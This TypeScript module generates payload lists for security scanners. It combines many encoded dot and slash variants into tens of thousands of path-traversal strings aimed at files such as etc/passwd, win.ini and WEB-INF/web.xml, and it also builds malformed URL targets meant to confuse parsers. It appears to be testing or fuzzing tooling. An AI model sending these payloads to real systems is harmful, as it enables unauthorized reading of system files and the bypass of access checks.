/** Building blocks of the lists of payloads that scanners carry, and all that can be built from them. */

const DOTS = ['..', '.', '...', '%2e%2e', '%2E%2E', '.%2e', '%2e.', '%252e%252e', '%25252e%25252e', '%c0%ae%c0%ae', '%c0%2e%c0%2e', '%e0%80%ae%e0%80%ae', '%u002e%u002e', '%uff0e%uff0e', '%ef%bc%8e%ef%bc%8e', '%e2%80%a4%e2%80%a4', '..;', '..;x=1', '..%3b', '..%00', '%00..', '..%20', '%20..', '..%09', '..%0a', '.%0d.', '..%e2%80%8b', '..\\', '.../.', '....', '0x2e0x2e', '..%ff', '..#', '%5c..', '%23..', '']
const SLASHES = ['/', '\\', '//', '\\\\', '/\\', '%2f', '%2F', '%5c', '%5C', '%252f', '%252F', '%255c', '%25252f', '%c0%af', '%c0%5c', '%c1%9c', '%e0%80%af', '%f0%80%80%af', '%u2215', '%u2216', '%ef%bc%8f', '%e2%88%95', '/./', '/;/', ';/', '/%20/', '/%2e/', '%00/', '/%00', '%0a/', '%09/', '?/', '#/', '/%e2%80%8b/']
const DEPTHS = [1, 2, 3, 6]
const ENDS = ['v1/admin/u', 'admin', 'etc/passwd', 'windows/win.ini', 'WEB-INF/web.xml', 'v1%2fadmin/u', 'etc/passwd%00.json', 'admin;x', '', 'V1/ADMIN/u']

/** Tens of thousands of ways to climb out of a path, each without its first slash. */
export function * traversals (): Generator<string> {
  for (const dots of DOTS) {
    for (const slash of SLASHES) {
      for (const depth of DEPTHS) {
        for (const end of ENDS) yield (dots + slash).repeat(depth) + end
      }
    }
  }
}

const SCHEMES = ['', 'http:', 'https:', 'HTTP:', 'ws:', 'file:', 'ftp:', 'javascript:', 'data:', 'foo:', '/', '//', '/\\', '\\\\', '///', '/api/', '/api/http:', '/api:', '?', '#', '.', '*']
const AUTHORITIES = ['', '//', '//erp.test', '//gateway.test', '//gateway.test:80', '//user@gateway.test', '//user:pass@erp.test', '//gateway.test@erp.test', '//[::1]', '//[::1', '//[v1.x]', '//127.1', '//0x7f.1', '//2130706433', '//127.0.0.1:99999', '//a:b@c:80', '//%61', '//\u00e4', '//xn--a', '//a b', '//a%00b', '\\\\erp.test', '/\\erp.test', ':80', 'gateway.test:80']
const PATHS = ['', '/', '/api/x', '/api/v1/admin/u', '/api/./v1/admin/u', '/api/..', '/api/%2e%2e/', '/api/x?q', '/api/x#f', '/api/x?q#f', '/api/;x', '/api/|', '/api/C|/', '/api/^', '/api/{x}', '/api/"', '/api/`', '/api/<>', '/api/%', '/api/%zz', '/api/%e4', '/api/\u00e9', '/api/\u{1f600}', '/api/\t', '/api/ x', '/api/x ', '/api/%00', '/api/%c3%a9', '/api/a%20b', '/api/~%7e']

/** Thousands of request targets that URL parsers disagree about. */
export function * oddTargets (): Generator<string> {
  for (const scheme of SCHEMES) {
    for (const authority of AUTHORITIES) {
      for (const path of PATHS) yield scheme + authority + path
    }
  }
}
